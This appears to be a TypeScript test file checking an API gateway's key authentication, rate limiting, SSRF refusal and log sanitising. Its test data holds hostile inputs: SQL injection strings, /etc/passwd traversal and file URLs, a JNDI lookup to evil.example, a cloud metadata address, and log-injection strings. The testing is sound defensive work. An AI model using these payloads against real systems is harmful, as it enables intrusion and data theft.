/**
 * Keys seen from outside: which credentials are refused and how, what a valid key allows, how guessing is slowed down,
 * and that neither a body nor a log line does what a client writes into it.
 */
import assert from 'node:assert/strict';
import { hash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { AttackFixture } from '../helpers/attack-fixture.ts';
import { startRawEngine } from '../helpers/raw-engine.ts';
import { get, post, type WireResponse } from '../helpers/test-gateway.ts';

let fixture: AttackFixture;
before(async () => {
  fixture = await AttackFixture.open();
});
after(() => fixture.close());

const chat = 'POST /v1/chat/completions';

/** A body without what differs from request to request. */
function nameless(response: WireResponse): string {
  return response.body.toString().replaceAll(/req_\w+/g, 'req');
}

function request(fields: string, path = '/v1/models'): string {
  return `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${fields}\r\n`;
}

describe('a credential that is not good', () => {
  const wrong: readonly (readonly [name: string, fields: () => string])[] = [
    ['none', () => ''],
    ['an empty Authorization', () => 'Authorization: \r\n'],
    ['an empty x-api-key', () => 'X-Api-Key: \r\n'],
    ['an empty api-key', () => 'Api-Key: \r\n'],
    ['SQL in the bearer', () => "Authorization: Bearer ' OR 1=1--\r\n"],
    ['SQL in x-api-key', () => "X-Api-Key: x' UNION SELECT digest FROM api_key--\r\n"],
    ['a path', () => 'X-Api-Key: ../../etc/passwd\r\n'],
    ['a template', () => `X-Api-Key: $\{jndi:ldap://evil.example/x} {{7*7}} %n%s\r\n`],
    ['16 KB', () => `Authorization: Bearer ${'a'.repeat(15_000)}\r\n`],
    ['the scheme alone', () => 'Authorization: Bearer\r\n'],
    ['the scheme and a space', () => 'Authorization: Bearer \r\n'],
    ['no scheme', () => `Authorization: ${fixture.key}\r\n`],
    ['a tab behind the scheme', () => `Authorization: Bearer\t${fixture.key}\r\n`],
    ['Basic', () => `Authorization: Basic ${Buffer.from(`x:${fixture.key}`).toString('base64')}\r\n`],
    ['Digest', () => `Authorization: Digest username="x", nonce="${fixture.key}"\r\n`.replace(', ', ' ')],
    ['bytes beyond ASCII', () => 'Authorization: Bearer \xff\xfe\xe9\r\n'],
    ['the key and a word more', () => `Authorization: Bearer ${fixture.key} x\r\n`],
    ['the key but for its last character', () => `Authorization: Bearer ${fixture.key.slice(0, -1)}\r\n`],
    ['the key and a character more', () => `Authorization: Bearer ${fixture.key}a\r\n`],
    ['the key in upper case', () => `Authorization: Bearer ${fixture.key.toUpperCase()}\r\n`],
    ['the prototype', () => 'Authorization: Bearer __proto__\r\n'],
    ['a key in the query', () => ''],
    ['a key in a cookie', () => `Cookie: Authorization=Bearer ${fixture.key}\r\n`],
    [
      'a key in another field',
      () => `X-Goog-Api-Key: ${fixture.key}\r\nProxy-Authorization: Bearer ${fixture.key}\r\n`,
    ],
  ];
  let expected: string;
  before(async () => {
    expected = nameless(await fixture.ask(request('')));
  });
  for (const [name, fields] of wrong) {
    test(`${name}: 401, the same for every reason`, async () => {
      const path = name.endsWith('query')
        ? `/v1/models?api_key=${fixture.key}&key=${fixture.key}`
        : '/v1/models';
      const response = await fixture.ask(Buffer.from(request(fields(), path), 'latin1'));
      assert.equal(response.status, 401);
      assert.equal(nameless(response), expected);
      assert.equal(response.field('www-authenticate'), 'Bearer');
      await fixture.assertUnharmed();
    });
  }
  test('on a path that does not exist the answer is the same', async () => {
    assert.equal(nameless(await fixture.ask(request('', '/admin'))), expected);
    assert.equal(nameless(await fixture.ask(request('', '/metrics'))), expected);
    await fixture.assertUnharmed();
  });
  test('the digest of a key is no key', async () => {
    const digest = hash('sha256', fixture.key, 'hex');
    assert.notEqual(fixture.proxy.snapshots.current().keys.withDigest(digest), undefined);
    assert.equal((await fixture.ask(get('/v1/models', digest))).status, 401);
    await fixture.assertUnharmed();
  });
});

describe('a good credential', () => {
  const good: readonly (readonly [name: string, fields: () => string])[] = [
    ['in Authorization', () => `Authorization: Bearer ${fixture.key}\r\n`],
    ['with the scheme in any case', () => `Authorization: bEARER ${fixture.key}\r\n`],
    ['with two spaces', () => `Authorization: Bearer  ${fixture.key}\r\n`],
    ['with spaces behind it', () => `Authorization: Bearer ${fixture.key}  \r\n`],
    ['in x-api-key', () => `X-API-KEY: ${fixture.key}\r\n`],
    ['in api-key', () => `api-key:${fixture.key}\r\n`],
  ];
  for (const [name, fields] of good)
    test(`${name} is taken`, async () => {
      assert.equal((await fixture.ask(request(fields()))).status, 200);
      await fixture.assertUnharmed();
    });

  test('that is revoked is told so, and only with the full right secret', async () => {
    const key = fixture.addKey();
    fixture.proxy.revoke(key);
    const response = await fixture.ask(get('/v1/models', key));
    assert.equal(response.status, 401);
    assert.match(response.body.toString(), /This API key was revoked/);
    const other = await fixture.ask(get('/v1/models', key.slice(0, -1)));
    assert.match(other.body.toString(), /No valid API key was given/);
    await fixture.assertUnharmed();
  });
  test('that is revoked while its connection is kept alive is refused from then on', async () => {
    const key = fixture.addKey();
    const wire = await fixture.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    fixture.proxy.revoke(key);
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 401);
    await fixture.assertUnharmed();
  });
  test('that is paused is refused with its own code until it is resumed, also on a kept-alive connection', async () => {
    const key = fixture.addKey();
    const wire = await fixture.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    fixture.proxy.pause(key);
    const refused = await wire.send(get('/v1/models', key)).response();
    assert.equal(refused.status, 403);
    assert.match(refused.body.toString(), /This API key is paused\..*flm key resume/);
    assert.match(refused.body.toString(), /"code":"AUTH_PAUSED"/i);
    fixture.proxy.pause(key, false);
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    await fixture.assertUnharmed();
  });
  test('expires on a kept-alive connection', async () => {
    const key = fixture.addKey({ expiresAtMs: fixture.clock.nowMs() + 5_000 });
    const wire = await fixture.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    await fixture.clock.move(5_000);
    const response = await wire.send(get('/v1/models', key)).response();
    assert.equal(response.status, 401);
    assert.match(response.body.toString(), /has expired/);
    await fixture.assertUnharmed();
  });
  test('does not lend itself to the next request of its connection', async () => {
    const wire = await fixture.dial();
    assert.equal((await wire.send(get('/v1/models', fixture.key)).response()).status, 200);
    assert.equal((await wire.send(request('')).response()).status, 401);
    assert.equal((await wire.send(get('/v1/models', 'flm_wrong')).response()).status, 401);
    await fixture.assertUnharmed();
  });
});

describe('guessing', () => {
  test('is slowed down after twenty failures, and a good key is not', async () => {
    await fixture.clock.move(600_000);
    const wire = await fixture.dial();
    for (let i = 0; i < 20; i++)
      assert.equal((await wire.send(get('/v1/models', `flm_${i}`)).response()).status, 401);
    const response = await wire.send(get('/v1/models', 'flm_20')).response();
    assert.equal(response.status, 429);
    assert.equal(response.field('retry-after'), '6');
    // A client that guesses on cannot push the logins of others out of the audit.
    assert.deepEqual(fixture.proxy.refusedLogins.slice(-2), [false, true]);
    assert.equal((await wire.send(get('/v1/models', fixture.key)).response()).status, 200);
    await fixture.clock.move(6_000);
    assert.equal((await wire.send(get('/v1/models', 'flm_21')).response()).status, 401);
    await fixture.assertUnharmed();
    await fixture.clock.move(600_000);
  });
});

describe('what a body names is not called', () => {
  const names = ['api_base', 'base_url', 'user_config', 'extra_headers', 'proxy', 'webhook', 'callback_url'];
  test('by flm, whatever the field', async () => {
    const sink = await startRawEngine([]);
    try {
      const body = JSON.stringify({
        model: 'm',
        ...Object.fromEntries(names.map((name) => [name, sink.url])),
        messages: [
          { role: 'user', content: [{ type: 'image_url', image_url: { url: `${sink.url}/x.png` } }] },
          { role: 'user', content: [{ type: 'image_url', image_url: { url: 'file:///etc/passwd' } }] },
        ],
      });
      assert.equal((await fixture.ask(post('/v1/chat/completions', fixture.key, body))).status, 200);
      assert.equal(fixture.engine.requests.at(-1)?.body.toString(), body);
      assert.equal(sink.connections, 0);
    } finally {
      await sink.close();
    }
    await fixture.assertUnharmed([chat]);
  });
  for (const model of ['http://169.254.169.254/', 'flm://evil/m', '../../m', ' m', 'M', 'm/../m'])
    test(`a model ${JSON.stringify(model)} is a model that does not exist`, async () => {
      const response = await fixture.ask(
        post('/v1/chat/completions', fixture.key, JSON.stringify({ model })),
      );
      assert.equal(response.status, 404);
      assert.match(response.body.toString(), /"code":"model_not_found"/);
      await fixture.assertUnharmed();
    });
});

describe('a log line is one line', () => {
  const labels = ['a\nb', '\x1b[31mred', `${'x'.repeat(10_000)}`, '\u2028', '<script>', '"}{"'];
  for (const label of labels)
    test(`with a key named ${JSON.stringify(label.slice(0, 20))}`, async () => {
      const key = fixture.addKey({ label });
      assert.equal((await fixture.ask(get('/v1/models', key))).status, 200);
      await fixture.assertUnharmed();
    });
  test('with a model of line ends and colours', async () => {
    for (const model of ['\r\nX: y', '\u001b[31m', 'm\u0000', '\u2028', 'x'.repeat(10_000)]) {
      const response = await fixture.ask(
        Buffer.from(post('/v1/chat/completions', fixture.key, JSON.stringify({ model }))),
      );
      assert.ok(response.status === 400 || response.status === 404);
      assert.match(response.body.toString(), /^[\x20-\x7e]{1,1000}$/);
    }
    await fixture.assertUnharmed();
  });
  test('with a path of 10 KB', async () => {
    assert.equal((await fixture.ask(get(`/${'x'.repeat(10_000)}`, fixture.key))).status, 404);
    assert.ok((fixture.proxy.lines.at(-1)?.path.length ?? 0) <= 200);
    await fixture.assertUnharmed();
  });
});
